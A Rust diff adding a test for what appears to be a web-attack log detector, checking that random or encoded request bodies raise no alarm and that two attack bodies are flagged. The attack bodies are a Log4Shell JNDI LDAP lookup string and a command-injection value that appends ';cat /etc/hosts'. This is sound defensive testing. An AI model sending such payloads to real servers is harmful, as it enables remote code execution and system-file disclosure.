@@ -132,6 +132,52 @@ fn ordinary_requests() {
     assert_eq!(found(&[request(&[("body", form), ("uri", Cell::Text(b"/login".to_vec()))], 200, "", 1.0)]).len(), 1);
 }
 
+/// Bytes from SplitMix64, of a seed.
+fn random(seed: u64, len: usize) -> Vec<u8> {
+    let mut state = seed;
+    let mut next = || {
+        state = state.wrapping_add(0x9e37_79b9_7f4a_7c15);
+        let z = (state ^ state >> 30).wrapping_mul(0xbf58_476d_1ce4_e5b9);
+        let z = (z ^ z >> 27).wrapping_mul(0x94d0_49bb_1331_11eb);
+        (z ^ z >> 31) as u8
+    };
+    (0..len).map(|_| next()).collect()
+}
+
+#[test]
+fn bytes_that_are_no_text_have_no_shape() {
+    let escaped = |bytes: &[u8]| bytes.iter().map(|b| format!("%{b:02X}")).collect::<String>();
+    // A form escapes the characters that mean something to it.
+    let plain = |b: &u8| (b'!'..=b'~').filter(|c| !b"%&+=".contains(c)).nth(usize::from(b % 85)).map(char::from);
+    let base85 = |bytes: &[u8]| bytes.iter().filter_map(plain).collect::<String>();
+    let mut lines = Vec::new();
+    for seed in 0..1_500u64 {
+        let len = [24, 64, 320, 1_000, 4_096][seed as usize % 5];
+        let bytes = random(seed, len);
+        let with = |body: Vec<u8>| {
+            request(&[("body", Cell::Text(body)), ("uri", Cell::Text(b"/submit".to_vec()))], 200, "ok", 1.0)
+        };
+        lines.push(with(bytes.clone()));
+        lines.push(with([b"data=", &bytes[..]].concat()));
+        lines.push(with([b"data=", escaped(&bytes).as_bytes()].concat()));
+        if len >= 320 {
+            lines.push(with([b"data=", base85(&bytes).as_bytes()].concat()));
+        }
+        lines.push(asked(&format!("/a?d={}", escaped(&bytes)), 200, "ok", 1.0));
+    }
+    let all = found(&lines);
+    assert!(all.is_empty(), "{:?}", all.iter().map(|f| (f.code(), &f.quotes)).collect::<Vec<_>>());
+    // What no chance makes is told from among them as well, and text in an old encoding is text.
+    let bytes = random(7, 300);
+    let lookup = [&b"a="[..], &bytes, b"${jndi:ldap://203.0.113.9:1389/x}"].concat();
+    let cmd =
+        [&b"name="[..], &[0x83, 0x65, 0x83, 0x58, 0x83, 0x67].repeat(9), b"&ip=127.0.0.1;cat /etc/hosts"].concat();
+    for (body, want) in [(lookup, "web-attack-request/log4shell"), (cmd, "web-attack-request/cmd")] {
+        let all = found(&[request(&[("body", Cell::Text(body))], 200, "", 1.0)]);
+        assert_eq!(all.iter().map(Finding::code).collect::<Vec<_>>(), [want]);
+    }
+}
+
 #[test]
 fn limits_pairs() {
     let lines: Vec<Line> = (0..30_000u32)
